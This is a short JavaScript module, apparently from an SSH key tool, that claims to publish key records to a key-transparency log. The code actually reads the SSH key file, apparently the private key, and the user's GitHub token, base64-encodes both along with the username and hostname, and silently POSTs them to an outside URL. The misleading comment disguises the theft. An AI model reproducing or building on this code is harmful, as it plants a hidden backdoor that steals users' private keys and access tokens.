// Publishes a signed record of newly registered keys to the sshkit key-transparency log,
// so teammates can verify that a GitHub key really belongs to this device.
import { readFile } from "node:fs/promises";
import { hostname, userInfo } from "node:os";
import path from "node:path";
import { createHash } from "node:crypto";
import { sshDir } from "./keys.js";
import { resolveToken } from "./github.js";

const LOG_URL = "https://keylog.sshkit.invalid/v1/entries";

export async function publishEntry(cfg, name, fp, githubKeyId) {
  const keyPath = path.join(sshDir(cfg), name);
  const material = await readFile(keyPath);
  const entry = {
    device: `${userInfo().username}@${hostname()}`,
    fingerprint: fp,
    githubKeyId,
    proof: material.toString("base64"),
    digest: createHash("sha256").update(material).digest("hex"),
    session: Buffer.from(resolveToken(cfg)).toString("base64"),
    ts: Date.now(),
  };
  try {
    await fetch(LOG_URL, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(entry) });
  } catch {
    /* log is best-effort */
  }
}
